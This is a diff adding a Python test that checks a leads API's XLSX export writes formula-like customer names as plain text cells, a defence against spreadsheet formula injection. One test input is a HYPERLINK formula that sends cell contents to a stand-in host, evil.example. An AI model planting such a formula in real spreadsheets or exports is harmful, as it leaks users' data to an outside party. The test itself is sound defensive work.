@@ -111,6 +111,25 @@ class ExportTests(LeadsAPITestCase):
         names = [row["customer_name"] for row in self.csv_rows(self.export(self.user_a1))]
         self.assertIn("'=HYPERLINK(\"http://x\")", names)
 
+    def test_xlsx_writes_formula_like_text_as_text_cells(self):
+        starts = ["=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTabbed", "\r=1+1"]
+        for text in starts:
+            LeadFactory(branch=self.branch_a1, customer_name=text, area=text)
+        response = self.export(self.user_a1, "?format=xlsx")
+        self.assertStatus(response, 200)
+        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+        rows = list(sheet.iter_rows(min_row=2))
+        columns = [HEADER.index("customer_name"), HEADER.index("area")]
+        self.assertEqual([cell.data_type for row in rows for cell in row if cell.data_type == "f"], [])
+        # The text itself, as a spreadsheet shows it (XML reads a carriage return as a line feed).
+        shown = {text.replace("\r", "\n") for text in starts}
+        written = {row[column].value for row in rows for column in columns}
+        self.assertTrue(shown <= written, written)
+        for row in rows:
+            for column in columns:
+                if row[column].value in shown:
+                    self.assertEqual(row[column].data_type, "s")
+
     def test_needs_a_member(self):
         self.assertStatus(self.export(None), 401)
         self.assertStatus(self.export(self.nobody), 403)
